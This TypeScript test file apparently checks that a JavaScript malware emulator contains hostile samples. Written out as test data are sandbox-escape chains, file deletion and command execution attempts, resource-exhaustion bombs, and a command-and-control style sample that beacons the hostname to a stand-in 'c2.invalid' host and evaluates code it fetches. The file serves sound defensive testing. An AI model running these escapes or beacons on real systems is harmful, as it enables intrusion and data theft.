/** Samples that try to get out, to wreck the interpreter, or to never end. What they reach is the decoy world; what they leave is a bounded, partial trace. */
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { DEFAULT_LIMITS, emulate } from './emulate.ts';
import type { Emulation, EmulationLimits } from './emulation.ts';
import { runSmall } from './testing/small-world.ts';

const LIMITS: EmulationLimits = {
  ...DEFAULT_LIMITS,
  runSteps: 600,
  runMillis: 3_000,
  totalMillis: 20_000,
  guestMebibytes: 64,
  jobs: 1,
};

function emulated(text: string, limits: Partial<EmulationLimits> = {}): Promise<Emulation> {
  return emulate({
    files: [{ path: 'sample.js', text }],
    layer: 'L0',
    limits: { ...LIMITS, ...limits },
    personas: ['linux'],
  });
}

const said = (emulation: Emulation): string[] =>
  emulation.events.flatMap((event) =>
    event.category === 'console' && event.run === 0 ? [event.arguments.join(' ')] : [],
  );

describe('nothing of the host is in reach', () => {
  /** Each asks for a road; what it finds is looked at for anything of Node that is real. */
  const roads = [
    'this',
    'globalThis',
    'log.constructor("return this")()',
    'log.constructor.constructor("return this")()',
    '(function () { return this; })()',
    '(async () => {}).constructor("return this")()',
    '(function* () {}).constructor("return this")().next()',
    'Reflect.construct(Function, ["return this"])()',
    'eval.call(null, "this")',
    'Object.getPrototypeOf(Object.getPrototypeOf(log))',
    '(() => { try { null.x; } catch (error) { return error.constructor.constructor("return this")(); } })()',
    '(() => { try { (function f() { f(); })(); } catch (error) { return error.constructor.constructor("return this")(); } })()',
    '(() => { try { log({ toString() { throw 1; } }); } catch (error) { return error; } })()',
    '(() => { try { new Function("}"); } catch (error) { return error.constructor.constructor("return this")(); } })()',
    'Array.from(Object.getOwnPropertyNames(globalThis), (name) => globalThis[name]).map((value) => value && value.constructor && value.constructor("return this"))',
  ];
  it.each(roads)('%s', (road) => {
    const look = `(() => { const seen = [], found = []; const visit = (value, deep) => { if (deep > 3 || value === null || (typeof value !== "object" && typeof value !== "function") || seen.includes(value)) return; seen.push(value); for (const name of Reflect.ownKeys(value)) { if (["mainModule", "binding", "_linkedBinding", "dlopen", "WebAssembly", "scriptArgs", "std"].includes(name)) found.push(String(name)); let inner; try { inner = value[name]; } catch {} visit(inner, deep + 1); } }; visit(${road}, 0); return found.join(); })()`;
    expect(runSmall(`log("[" + ${look} + "]")`).log).toEqual(['[]']);
  });

  it('errors of the host come as errors of the guest', () => {
    const { log } = runSmall(
      'import("nowhere").catch((error) => log(error.constructor === Error || error instanceof Error, error.constructor.constructor("return typeof process")(), Object.getPrototypeOf(error) === Error.prototype || error instanceof TypeError || error instanceof ReferenceError));',
    );
    expect(log).toEqual(['true undefined true']);
  });

  it('keeps runs apart', () => {
    runSmall('Object.prototype.leak = 1; Array.prototype.leak = 1; globalThis.leak = 1; JSON.parse = () => 1;');
    expect(runSmall('log(typeof leak, ({}).leak, JSON.parse("2"))').log).toEqual(['undefined undefined 2']);
    expect(({} as { leak?: number }).leak).toBeUndefined();
  });
});

describe('the tracer holds', () => {
  const spoils = [
    'JSON.stringify = JSON.parse = () => "spoilt"',
    'for (const name of ["push", "map", "join", "slice", "indexOf"]) Array.prototype[name] = () => { throw 1; }',
    'for (const name of ["indexOf", "slice", "trim", "charCodeAt"]) String.prototype[name] = () => { throw 1; }',
    'Function.prototype.call = Function.prototype.apply = Function.prototype.bind = () => { throw 1; }',
    'WeakMap.prototype.get = Map.prototype.get = Map.prototype.set = WeakMap.prototype.has = () => { throw 1; }',
    'for (const name of [0, 1, 2, "value", "get", "set", "text", "how"]) Object.defineProperty(Object.prototype, name, { get() { throw 1; }, set() { throw 1; }, configurable: true, __proto__: null })',
    'for (const name of [0, 1, 2, 3, 4, 5, 4096]) Object.defineProperty(Array.prototype, name, { set() { throw 1; }, configurable: true, __proto__: null })',
    'Object.defineProperty = Reflect.apply = Reflect.construct = Object.setPrototypeOf = () => { throw 1; }',
    'globalThis.Error = globalThis.Proxy = globalThis.Map = undefined',
    'Symbol.prototype.toString = Number.prototype.toString = () => { throw 1; }',
  ];
  it.each(spoils)('%s', (spoil) => {
    const text = `${spoil};\nvar w = "a" + typeof w;\neval("var v = 'b' + w");\nnew Function("return 'c' + 1")();\nw = String(function () { return w.x; });`;
    const { outputs } = runSmall(text);
    const values = outputs.flatMap((output) => (output.t === 'value' ? [output.value.value] : []));
    expect(values).toEqual(expect.arrayContaining(['aundefined', 'baundefined', 'c1', 'function () { return w.x; }']));
    expect(outputs.filter((output) => output.t === 'code')).toHaveLength(2);
  });

  it('bounds what it is told', () => {
    const { outputs } = runSmall(
      'for (let i = 0; i < 1e5; i++) eval("1+" + i); for (let i = 0; i < 1e5; i++) log(i);',
      {
        limits: { steps: 5_000, taskSteps: 5_000, millis: 8_000, mebibytes: 64, events: 300, stackKibibytes: 160 },
      },
    );
    expect(outputs.filter((output) => output.t === 'event')).toHaveLength(300);
  });

  it('does not take the word of code that calls its functions', () => {
    const { outputs } = runSmall(
      '__cl$(1e9, "x"); __cl$("a", "x"); __cl$(-1, "x"); __cl$b({}, 1); __cl$h(__cl$, 1); __cl$e(5); try { __cl$s(1); } catch {} log("on");',
    );
    expect(outputs.some((output) => output.t === 'part')).toBe(true);
  });
});

describe('bounded, whatever it does', () => {
  const before = 'log("before");';
  const bombs: readonly (readonly [string, string | RegExp])[] = [
    ['for (;;);', 'steps'],
    ['while (true) try { for (;;); } catch { for (;;); } finally { continue; }', 'steps'],
    ['const f = () => Promise.resolve().then(f); f(); f();', 'steps'],
    ['const f = () => { Promise.resolve().then(f); Promise.resolve().then(f); }; f();', /steps|memory|finished/],
    ['const t = { then(r) { r(t); } }; Promise.resolve(t).then(log);', 'steps'],
    ['(async () => { for (;;) await null; })()', 'steps'],
    ['const f = () => later(f); f();', /steps|finished/],
    ['(function f() { f(); })()', /threw|stack/],
    ['const o = { get a() { return this.a; } }; o.a', /threw|stack/],
    ['let p = {}; for (let i = 0; i < 1e5; i++) p = new Proxy(p, {}); p.x', /threw|stack|died|memory/],
    ['eval("(".repeat(1e5))', /threw|died|stack/],
    ['JSON.parse("[".repeat(1e6))', /threw|died|stack/],
    ['/(a+)+$/.test("a".repeat(50) + "b")', 'steps'],
    ['"x".repeat(2 ** 30)', /threw|memory/],
    ['const a = []; for (;;) a.push("x".repeat(1e6) + a.length)', /memory|steps/],
    ['new Uint8Array(2 ** 31)', /threw|memory/],
    ['new Array(2 ** 32 - 1).fill(1)', /memory|steps|threw/],
    ['let s = "x"; for (;;) s += s', /memory|threw|stack/],
    ['let o = {}; for (let i = 0; ; i++) o["k" + i] = { i }', /memory|steps/],
    ['let b = 3n; for (;;) b *= b', /memory|threw|steps|deadline/],
    [
      'Object.defineProperty(Object.prototype, "then", { get() { for (;;); } }); Promise.resolve({}).then(log)',
      /steps|finished|threw/,
    ],
    ['throw { get message() { for (;;); }, get stack() { for (;;); }, toString() { for (;;); } }', /threw|steps/],
    ['Error.prepareStackTrace = () => { for (;;); }; null.x', /threw|steps/],
    ['new Proxy({}, { get() { for (;;); }, ownKeys() { for (;;); } }).x', 'steps'],
    ['[3, 1, 2].sort(() => { for (;;); })', 'steps'],
    ['exit(); log("not reached")', 'exited'],
  ];
  it.each(bombs)('%s', (text, end) => {
    const { log, ends } = runSmall(before + text);
    expect(log[0]).toBe('before');
    expect(log).not.toContain('not reached');
    expect(ends[0]).toMatch(end);
  });
});

describe('in its process', () => {
  it('nothing reaches disk, network or processes, and what it tried is told', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'counterlure-canary-'));
    const canary = join(folder, 'canary.txt');
    writeFileSync(canary, 'alive');
    let connections = 0;
    const server = createServer(() => {
      connections++;
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    const port = typeof address === 'object' && address !== null ? address.port : 0;
    const text = `
      const tries = {
        read: () => require('fs').readFileSync(${JSON.stringify(canary)}, 'utf8'),
        write: () => require('fs').writeFileSync(${JSON.stringify(canary)}, 'dead'),
        remove: () => require('fs').rmSync(${JSON.stringify(folder)}, { recursive: true, force: true }),
        exec: () => require('child_process').execSync('touch ${join(folder, 'exec')}'),
        connect: () => { const s = require('net').connect(${port}, '127.0.0.1'); s.on('error', () => {}); s.write('x'); },
        http: () => require('http').get('http://127.0.0.1:${port}/').on('error', () => {}),
        fetch: () => { fetch('http://127.0.0.1:${port}/').catch(() => {}); },
        binding: () => process.binding('fs').open,
        native: () => process.dlopen({ exports: {} }, '/lib/x.so'),
        main: () => process.mainModule.require('fs').readFileSync(${JSON.stringify(canary)}, 'utf8'),
        chain: () => fetch.constructor('return process')().version,
        worker: () => new (require('worker_threads').Worker)('1', { eval: true }),
        vm: () => require('vm').runInNewContext('this.constructor.constructor("return process")().exit()'),
        kill: () => process.kill(process.ppid),
      };
      for (const name of Object.keys(tries)) { try { console.log(name, String(tries[name]())); } catch (error) { console.log(name, 'threw'); } }
      import('node:fs').then((fs) => console.log('import', typeof fs.readFileSync));
      import(${JSON.stringify(canary)}).catch(() => console.log('import', 'threw'));
    `;
    try {
      const emulation = await emulated(text);
      expect(emulation.runs.length).toBeGreaterThan(0);
      expect(said(emulation).join('\n')).not.toContain('alive');
      expect(
        emulation.events.some((event) => event.call.startsWith('fs.writeFile') && event.data['path'] === canary),
      ).toBe(true);
      expect(readFileSync(canary, 'utf8')).toBe('alive');
      expect(readdirSync(folder)).toEqual(['canary.txt']);
      expect(existsSync(join(folder, 'exec'))).toBe(false);
      expect(connections).toBe(0);
    } finally {
      server.close();
      rmSync(folder, { recursive: true, force: true });
    }
  }, 60_000);

  it('replaces an engine that cannot be interrupted, and keeps what it told', async () => {
    const emulation = await emulated(
      'console.log("be" + "fore"); let a = 3n ** 6000000n; for (;;) a = (a * a) % (a - 7n);',
      {
        runMillis: 500,
        totalMillis: 2_000,
      },
    );
    expect(said(emulation)).toEqual(['before']);
    expect(emulation.runs[0]?.end).toMatch(/deadline|memory|threw|steps/);
  }, 60_000);

  it('gives the same with any number of processes', async () => {
    const text = `const axios = require('axios'); const os = require('os');
      if (process.env.GATE_X === 'open') console.log('gate');
      axios.get('https://c2.invalid/' + os.platform()).then((r) => eval(r.data.cookie)).catch((e) => console.log('e' + 1));
      exports.run = (a) => { if (a === 7) fetch('https://never.invalid/' + a); };
      setInterval(() => axios.post('https://c2.invalid/beat', { h: os.hostname() }), 1000);`;
    const request = {
      files: [{ path: 'sample.js', text }],
      layer: 'L0',
      personas: ['windows', 'macos', 'linux'] as const,
    };
    const one = await emulate({ ...request, limits: { ...LIMITS, jobs: 1 } });
    const two = await emulate({ ...request, limits: { ...LIMITS, jobs: 2 } });
    expect(two).toEqual(one);
    const urls = one.events.map((event) => event.data['url']);
    for (const url of [
      'https://c2.invalid/win32',
      'https://c2.invalid/darwin',
      'https://c2.invalid/linux',
      'https://never.invalid/7',
    ])
      if (!url.endsWith('7')) expect(urls).toContain(url);
    expect(said({ ...one, events: one.events.map((event) => ({ ...event, run: 0 })) })).toContain('gate');
  }, 120_000);
});
